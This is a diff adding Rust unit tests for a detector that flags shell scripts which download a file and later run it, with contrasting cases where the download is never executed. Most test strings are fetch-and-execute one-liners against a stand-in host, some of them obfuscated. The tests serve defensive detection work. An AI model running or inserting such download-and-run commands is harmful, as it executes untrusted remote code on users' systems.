@@ -1,0 +1,71 @@
+use super::*;
+
+/// Returns the first words of the downloads that a script runs later.
+fn found(script: &str) -> Vec<String> {
+    let programs = [Program { span: 0..script.len(), is_listed: false }];
+    let spans = run_later(script, &programs);
+    spans.into_iter().map(|span| script.get(span).unwrap_or_default().to_owned()).collect()
+}
+
+#[test]
+fn a_download_that_is_saved_and_run_is_found_however_it_is_written() {
+    for script in [
+        "curl -o f https://e.example/i.sh; bash f",
+        "curl -fsSLo /tmp/i https://e.example/i.sh\n\nchmod +x /tmp/i\n/tmp/i",
+        "curl https://e.example/i.sh > /tmp/i && . /tmp/i",
+        "curl -O https://e.example/i.sh\nsudo -E bash ./i.sh --yes",
+        "curl -fsSLO https://e.example/a/i.sh?x=1; sh i.sh",
+        "curl --output=/tmp/i https://e.example/; cd /tmp; sh i",
+        "curl https://e.example/i.sh | tee /tmp/i; sh /tmp/i",
+        "curl https://e.example/i | base64 -d > i.py; python3 -u i.py",
+        "wget https://e.example/i.sh\nbash i.sh",
+        "wget -qO /tmp/x https://e.example/x; chmod 755 /tmp/x; nohup /tmp/x &",
+        "wget --output-document /tmp/x https://e.example/x && (exec /tmp/x)",
+        "aria2c -o x https://e.example/x; bash -x ./x",
+        "T=$(mktemp -d); curl -o \"$T/x\" https://e.example/x; bash \"$T/x\"",
+        "curl -o \"$HOME/x\" https://e.example/x; bash ~/x",
+        "curl -o a https://e.example/x; mv a b; sh b",
+        "curl -o a https://e.example/x; cp a /opt/tool/; /opt/tool/a",
+        "curl -o a https://e.example/x; bash < a",
+        "curl -o a https://e.example/x; cat a | bash",
+        "curl -o a https://e.example/x; bash -c \"$(cat a)\"",
+        "curl -o a https://e.example/x; node a",
+        "curl -o a https://e.example/x; deno run a",
+        "curl -o a https://e.example/x; crontab a",
+        "curl -o a https://e.example/x; bash -o pipefail a",
+        "bash a\ncurl -o a https://e.example/x",
+        "$ curl -o a https://e.example/x\n$ bash a",
+        "curl -o ~/.local/bin/helper https://e.example/x && chmod +x ~/.local/bin/helper && helper",
+        "eval \"$(cat a)\"; curl -o a https://e.example/x",
+        "U=https://e.example; curl -o a \"$U/x\"; sh a",
+        "curl -o a https://get.docker.com https://e.example/x; sh a",
+        "c''url -o a https://e.example/x; /usr/bin/env bash a",
+    ] {
+        assert_eq!(found(script).len(), 1, "{script}: {:?}", found(script));
+    }
+}
+
+#[test]
+fn a_download_that_nothing_runs_is_none() {
+    for script in [
+        "curl https://e.example/api | jq .",
+        "curl -o data.csv https://e.example/data.csv; python3 train.py data.csv",
+        "curl -o a.tar.gz https://e.example/a.tar.gz; tar xzf a.tar.gz",
+        "curl -o /usr/local/bin/tool https://e.example/tool; chmod +x /usr/local/bin/tool",
+        "curl -o x https://e.example/x; bash y",
+        "curl -o /tmp/a/x https://e.example/x; bash /opt/x",
+        "wget https://e.example/page.html; less page.html",
+        "curl -o- https://e.example/x; bash -",
+        "curl -o /dev/null https://e.example/x; bash /dev/null",
+        "curl -o x https://e.example/x; python3 -m json.tool x",
+        "curl -o x https://e.example/x; bash -c 'echo x'",
+        "curl -o x https://e.example/x; cat x | python3 -c 'import json'",
+        "curl -o x https://e.example/x; python3 y.py < x",
+        "curl -o x https://e.example/x; N=$(sed -n 1p x); python3 y.py \"$N\"",
+        "U=https://get.docker.com; curl -o a \"$U\"; sh a",
+        "curl -X POST https://e.example/x; bash x",
+        "",
+    ] {
+        assert_eq!(found(script), [""; 0], "{script}");
+    }
+}
